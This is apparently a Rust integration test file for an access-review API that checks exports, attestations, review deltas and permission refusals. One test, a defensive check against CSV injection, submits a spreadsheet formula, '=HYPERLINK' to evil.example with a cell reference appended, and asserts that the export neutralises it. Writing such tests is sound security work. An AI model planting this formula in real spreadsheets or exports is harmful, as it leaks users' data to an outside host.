//! Reviews over HTTP: packs in three forms, and what people decide.

use http::{HeaderValue, Method, header};
use serde_json::{Value, json};

use crate::support::{Answer, HOME, World, request, send};

const REVIEWS: &str = "/api/v1/reviews";
const MEMBER: &str = "finance_metrics@service";

async fn call(world: &World, method: Method, path: &str, body: Option<Value>) -> Answer {
    send(&world.api(), request(HOME, Some(&world.admin), &method, path, body.as_ref())).await
}

async fn as_form(world: &World, path: &str, form: &'static str) -> (String, String) {
    let mut asked = request(HOME, Some(&world.admin), &Method::GET, path, None);
    asked.headers_mut().insert(header::ACCEPT, HeaderValue::from_static(form));
    let answer = send(&world.api(), asked).await;
    assert_eq!(answer.status, 200, "{form}");
    let kind = answer.header(header::CONTENT_TYPE).unwrap().to_owned();
    (kind, String::from_utf8(answer.body).unwrap())
}

async fn open(world: &World) -> (String, Value) {
    let opened = call(world, Method::POST, REVIEWS, Some(json!({"limit": 50}))).await;
    assert_eq!(opened.status, 201);
    (opened.header(header::LOCATION).unwrap().to_owned(), opened.json())
}

#[tokio::test]
async fn a_pack_asks_of_each_account_and_token_and_is_had_in_three_forms() {
    let world = World::new().await;
    let (path, pack) = open(&world).await;
    let items = pack["items"].as_array().unwrap();
    let kinds: Vec<_> = items.iter().map(|item| item["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["account", "token"], "whoever reviews does not review its own account");
    let unused = items[1]["findings"].as_array().unwrap().iter().find(|found| found["question"] == "least privilege?");
    assert_eq!(unused.unwrap()["risk"], "NHI5");
    assert_eq!(pack["delta"], Value::Null, "it is the first");
    let (kind, csv) = as_form(&world, &path, "text/csv").await;
    assert!(kind.starts_with("text/csv"), "{kind}");
    assert!(csv.contains(MEMBER) && csv.contains("NHI5"), "{csv}");
    let (kind, markdown) = as_form(&world, &path, "text/markdown").await;
    assert!(kind.starts_with("text/markdown"), "{kind}");
    assert!(markdown.contains(r"| finance\_metrics@service | account |"), "{markdown}");
    assert_eq!(call(&world, Method::GET, &path, None).await.json()["items"], pack["items"]);
}

/// Every field may be left out, and so may the body; what is no JSON is none without a media type either.
#[tokio::test]
async fn a_review_and_a_dry_run_need_no_body() {
    let world = World::new().await;
    for (path, status) in [(REVIEWS, 201), (&*format!("/api/v1/service-accounts/{MEMBER}/dry-run"), 200)] {
        for media_type in [None, Some("application/json"), Some("text/plain")] {
            let mut asked = request(HOME, Some(&world.admin), &Method::POST, path, None);
            if let Some(media_type) = media_type {
                asked.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static(media_type));
            }
            assert_eq!(send(&world.api(), asked).await.status, status, "{path} {media_type:?}");
        }
        let mut asked = request(HOME, Some(&world.admin), &Method::POST, path, Some(&json!({})));
        asked.headers_mut().remove(header::CONTENT_TYPE);
        assert_eq!(send(&world.api(), asked).await.code(), "UNSUPPORTED_MEDIA_TYPE", "{path}");
    }
}

#[tokio::test]
async fn a_decision_is_kept_with_its_note_and_the_next_review_tells_what_has_changed() {
    let world = World::new().await;
    let (path, pack) = open(&world).await;
    let attest = |key: String, decision: &str| json!({"key": key, "decision": decision, "note": "feeds the dashboard"});
    let token = pack["items"][1]["key"].as_str().unwrap().to_owned();
    for key in [MEMBER.to_owned(), token.clone()] {
        let attested = call(&world, Method::POST, &format!("{path}/attestations"), Some(attest(key, "keep"))).await;
        assert_eq!(attested.status, 200);
    }
    let kept = call(&world, Method::GET, &path, None).await.json();
    assert_eq!((&kept["undecided"], kept["attestations"].as_array().unwrap().len()), (&json!(0), 2));
    let decision = &kept["items"][1]["decision"];
    assert_eq!((&decision["decision"], &decision["note"]), (&json!("keep"), &json!("feeds the dashboard")));
    assert_eq!(decision["by"], "platform_automation@service");
    let late = attest("nobody@service".into(), "keep");
    let late = call(&world, Method::POST, &format!("{path}/attestations"), Some(late)).await;
    assert!((400..500).contains(&late.status), "{}", late.status);
    let (_, second) = open(&world).await;
    let standing = second["delta"]["standing"].as_array().unwrap();
    assert!(standing.iter().any(|change| change["key"] == token && change["question"] == "least privilege?"));
    let listed = call(&world, Method::GET, REVIEWS, None).await.json();
    assert_eq!(listed["items"].as_array().unwrap().len(), 2);
}

#[tokio::test]
async fn who_may_not_review_neither_opens_reads_nor_attests() {
    let world = World::new().await;
    let (path, _) = open(&world).await;
    let attest = json!({"key": MEMBER, "decision": "keep"});
    for (method, path, body) in [
        (Method::POST, REVIEWS.to_owned(), Some(json!({"limit": 50}))),
        (Method::GET, REVIEWS.to_owned(), None),
        (Method::GET, path.clone(), None),
        (Method::POST, format!("{path}/attestations"), Some(attest)),
    ] {
        let refused = send(&world.api(), request(HOME, Some(&world.member), &method, &path, body.as_ref())).await;
        assert_eq!(refused.status, 403, "{method} {path}");
    }
    let kept = call(&world, Method::GET, &path, None).await.json();
    assert_eq!(kept["attestations"], json!([]));
}

/// OWASP "CSV injection": a cell that begins as a formula is one to a spreadsheet.
#[tokio::test]
async fn no_cell_of_a_pack_is_a_formula() {
    let world = World::new().await;
    let (path, pack) = open(&world).await;
    for item in pack["items"].as_array().unwrap() {
        let note = "=HYPERLINK(\"https://evil.example/?\"&A1)";
        let attest = json!({"key": item["key"], "decision": "change", "note": note});
        let attested = call(&world, Method::POST, &format!("{path}/attestations"), Some(attest)).await;
        assert_eq!(attested.status, 200);
    }
    let (_, csv) = as_form(&world, &path, "text/csv").await;
    assert!(csv.contains("HYPERLINK"), "the note is in the pack: {csv}");
    for start in ["=", "+", "-", "@", "\t"] {
        for cell_start in ["\n", ",", "\n\"", ",\""] {
            assert!(!csv.contains(&format!("{cell_start}{start}")), "{cell_start:?}{start:?} in {csv}");
        }
    }
}
